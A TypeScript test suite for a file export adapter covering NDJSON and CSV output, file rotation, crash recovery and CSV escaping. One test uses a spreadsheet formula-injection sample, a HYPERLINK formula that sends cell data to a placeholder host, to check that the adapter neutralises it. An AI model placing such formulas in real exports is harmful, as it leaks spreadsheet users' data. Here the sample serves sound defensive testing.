import { eventually } from '@tessera/testing';
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { appendFile, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deliveryBatch, deliveryItem, itemsFrom, noAbort } from '../test-support/delivery-fixtures';
import { FileExportAdapter } from './file-export-adapter';
import type { FileExportConfig } from './file-export-config';
import { STAGING_DIR } from './segment-writer';

const visibleFiles = (dir: string) =>
  readdirSync(dir)
    .filter((n) => !n.startsWith('.'))
    .sort();
const ndjsonRows = (dir: string) =>
  visibleFiles(dir).flatMap((f) =>
    readFileSync(join(dir, f), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l)),
  );

describe('FileExportAdapter', () => {
  let dir: string;
  const open: FileExportAdapter[] = [];
  const adapter = (config: Partial<FileExportConfig> = {}) => {
    const a = new FileExportAdapter('dest-1', { directory: dir, format: 'ndjson', ...config }, () => Date.now());
    open.push(a);
    return a;
  };
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'tessera-file-export-'));
  });
  afterEach(async () => {
    for (const a of open.splice(0)) await a.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes NDJSON rows carrying the batch and delivery ids into a sortably named file', async () => {
    const files = adapter();
    expect(await files.send(deliveryBatch('b1', itemsFrom(1, 2)), noAbort())).toEqual({ outcome: 'delivered' });
    expect(await files.send(deliveryBatch('b2', itemsFrom(3, 1)), noAbort())).toEqual({ outcome: 'delivered' });
    expect(visibleFiles(dir)).toEqual([]);
    await files.close();
    const [name] = visibleFiles(dir);
    expect(name).toMatch(/^dest-1-\d{8}T\d{9}Z-00000001\.ndjson$/);
    expect(ndjsonRows(dir).map((r) => [r.batchId, r.deliveryId])).toEqual([
      ['b1', 'dlv-1'],
      ['b1', 'dlv-2'],
      ['b2', 'dlv-3'],
    ]);
    expect(ndjsonRows(dir)[0]).toMatchObject({
      profileId: 'prof-1',
      action: 'add',
      identifiers: { email: ['person1@example.com'] },
      fields: { plan: 'pro' },
    });
  });

  it('rotates by size without splitting a batch, and names sort in write order', async () => {
    const files = adapter({ maxFileBytes: 2048 });
    for (let n = 0; n < 30; n++) await files.send(deliveryBatch(`b${n}`, itemsFrom(n * 3, 3)), noAbort());
    await files.close();
    const names = visibleFiles(dir);
    expect(names.length).toBeGreaterThan(5);
    for (const name of names) {
      const rows = readFileSync(join(dir, name), 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l));
      expect(rows.length % 3).toBe(0);
      expect(readFileSync(join(dir, name)).length).toBeLessThanOrEqual(2048);
    }
    expect(ndjsonRows(dir).map((r) => r.deliveryId)).toEqual(itemsFrom(0, 90).map((i) => i.deliveryId));
  });

  it('rotates by time even when no further batch arrives', async () => {
    const files = adapter({ rotateAfterSeconds: 0.2 });
    await files.send(deliveryBatch('b1', itemsFrom(1, 1)), noAbort());
    const names = await eventually(
      () => (visibleFiles(dir).length === 1 ? visibleFiles(dir) : undefined),
      10_000,
      'the time-rotated file',
      20,
    );
    expect(ndjsonRows(dir).map((r) => r.deliveryId)).toEqual(['dlv-1']);
    await files.send(deliveryBatch('b2', itemsFrom(2, 1)), noAbort());
    await eventually(() => (visibleFiles(dir).length === 2 ? true : undefined), 10_000, 'the second file', 20);
    expect(visibleFiles(dir)[0]).toBe(names[0]);
  });

  it('a concurrent reader listing the directory only ever sees whole files', async () => {
    const files = adapter({ maxFileBytes: 4096 });
    let writing = true;
    const seen = new Map<string, number>();
    let reads = 0;
    const reader = (async () => {
      while (writing) {
        for (const name of (await readdir(dir)).filter((n) => !n.startsWith('.'))) {
          const text = await readFile(join(dir, name), 'utf8');
          reads++;
          expect(text.endsWith('\n')).toBe(true);
          const rows = text
            .split('\n')
            .filter(Boolean)
            .map((l) => JSON.parse(l) as { batchId: string });
          expect(rows.length % 4).toBe(0);
          if (seen.has(name)) expect(seen.get(name)).toBe(rows.length);
          seen.set(name, rows.length);
        }
        await new Promise((r) => setImmediate(r));
      }
    })();
    const sends = Array.from({ length: 200 }, (_, n) => files.send(deliveryBatch(`b${n}`, itemsFrom(n * 4, 4)), noAbort()));
    expect((await Promise.all(sends)).every((r) => r.outcome === 'delivered')).toBe(true);
    await files.close();
    writing = false;
    await reader;
    expect(reads).toBeGreaterThan(10);
    expect(ndjsonRows(dir)).toHaveLength(800);
  });

  it('writes a retried batch once after a crash between write and ack, and drops a torn tail', async () => {
    const first = new FileExportAdapter('dest-1', { directory: dir, format: 'ndjson' }, () => Date.now());
    await first.send(deliveryBatch('b1', itemsFrom(1, 2)), noAbort());
    // the "crash": first is abandoned with its file open; a torn half-line of a next batch is on disk
    const [part] = readdirSync(join(dir, STAGING_DIR)).filter((n) => n.endsWith('.part'));
    await appendFile(join(dir, STAGING_DIR, part), '{"batchId":"b2","deliv');

    const second = adapter();
    expect(await second.send(deliveryBatch('b1', itemsFrom(1, 2)), noAbort())).toEqual({
      outcome: 'delivered',
      note: 'batch already written (a retry of an unacknowledged write)',
    });
    expect(await second.send(deliveryBatch('b2', itemsFrom(3, 1)), noAbort())).toEqual({ outcome: 'delivered' });
    await second.close();
    expect(ndjsonRows(dir).map((r) => r.deliveryId)).toEqual(['dlv-1', 'dlv-2', 'dlv-3']);

    // after rotation the id is still remembered
    const third = adapter();
    expect(await third.send(deliveryBatch('b2', itemsFrom(3, 1)), noAbort())).toMatchObject({
      outcome: 'delivered',
      note: expect.any(String),
    });
    await third.close();
    expect(ndjsonRows(dir)).toHaveLength(3);
  });

  it('publishes a file a crash left open on time, without waiting for another batch', async () => {
    const crashed = new FileExportAdapter('dest-1', { directory: dir, format: 'ndjson' }, () => Date.now());
    await crashed.send(deliveryBatch('b1', itemsFrom(1, 2)), noAbort());
    adapter({ rotateAfterSeconds: 0.3 });
    await eventually(() => (visibleFiles(dir).length === 1 ? true : undefined), 10_000, 'the recovered file to be sealed', 20);
    expect(ndjsonRows(dir).map((r) => r.deliveryId)).toEqual(['dlv-1', 'dlv-2']);
  });

  it('survives kill -9 at arbitrary points: every batch exactly once, no torn rows', async () => {
    const runChild = (from: number, to: number, killAfterAcks?: number) =>
      new Promise<number>((resolve, reject) => {
        const child = spawn(
          process.execPath,
          [join(__dirname, '../../../../tools/run-ts.js'), join(__dirname, '../test-support/file-export-child.ts')],
          {
            env: { ...process.env, EXPORT_DIR: dir, FROM: String(from), TO: String(to) },
            stdio: ['ignore', 'pipe', 'inherit'],
          },
        );
        let acks = 0;
        child.stdout.on('data', (chunk: Buffer) => {
          acks += chunk
            .toString()
            .split('\n')
            .filter((l) => l.startsWith('acked')).length;
          if (killAfterAcks !== undefined && acks >= killAfterAcks) child.kill('SIGKILL');
        });
        child.on('error', reject);
        child.on('exit', () => resolve(acks));
      });
    // each run re-sends everything from 0, as a dispatcher would retry unacked (and here even acked) batches
    for (const killAfter of [7, 23, 41]) {
      const acked = await runChild(0, 59, killAfter);
      expect(acked).toBeGreaterThanOrEqual(killAfter);
    }
    expect(await runChild(0, 59)).toBe(60);
    const rows = ndjsonRows(dir);
    expect(rows.map((r) => r.deliveryId)).toEqual(
      Array.from({ length: 60 }, (_, n) => itemsFrom(n * 10, 5).map((i) => i.deliveryId)).flat(),
    );
    expect(readdirSync(join(dir, STAGING_DIR)).filter((n) => n.endsWith('.part'))).toEqual([]);
  }, 120_000);

  it('writes CSV with one header per file, chosen field columns and proper quoting', async () => {
    const files = adapter({ format: 'csv', csvColumns: ['plan', 'note'] });
    await files.send(
      deliveryBatch('b1', [
        deliveryItem(1, { fields: { plan: 'pro', note: 'says "hi", twice' } }),
        deliveryItem(2, { segmentId: undefined, fields: { plan: 'free' } }),
      ]),
      noAbort(),
    );
    await files.close();
    const [name] = visibleFiles(dir);
    expect(name).toMatch(/\.csv$/);
    expect(readFileSync(join(dir, name), 'utf8')).toBe(
      'batchId,deliveryId,profileId,action,segmentId,syncId,occurredAt,plan,note\n' +
        'b1,dlv-1,prof-1,add,seg-churn,sync-1,2026-12-05T12:00:01.000Z,pro,"says ""hi"", twice"\n' +
        'b1,dlv-2,prof-2,add,,sync-1,2026-12-05T12:00:02.000Z,free,\n',
    );
  });

  it('escapes text a spreadsheet would run as a formula, leaving numbers alone; csvEscapeFormulas: false writes it as is', async () => {
    const fields = { name: '=HYPERLINK("http://x.example/?"&A1,"open")', city: '@SUM(1)', ltv: -5, code: '-7' };
    const written = async (batchId: string, options: { csvEscapeFormulas?: boolean }) => {
      const files = adapter({ format: 'csv', csvColumns: ['name', 'city', 'ltv', 'code'], ...options });
      await files.send(deliveryBatch(batchId, [deliveryItem(1, { fields })]), noAbort());
      await files.close();
      const [name] = visibleFiles(dir);
      const text = readFileSync(join(dir, name), 'utf8');
      rmSync(join(dir, name));
      return text.split('\n')[1].split(',2026-12-05T12:00:01.000Z,')[1];
    };
    expect(await written('b1', {})).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'@SUM(1),-5,'-7`);
    expect(await written('b2', { csvEscapeFormulas: false })).toBe(`"=HYPERLINK(""http://x.example/?""&A1,""open"")",@SUM(1),-5,-7`);
  });

  it('reports a directory that cannot exist as terminal, in words', async () => {
    const blocker = join(dir, 'a-file');
    await appendFile(blocker, 'not a directory');
    const files = adapter({ directory: join(blocker, 'exports') });
    const result = await files.send(deliveryBatch('b1', itemsFrom(1, 1)), noAbort());
    expect(result.outcome).toBe('terminal');
    expect((result as { error: string }).error).toMatch(/^could not write the export file \(ENOTDIR/);
  });
});
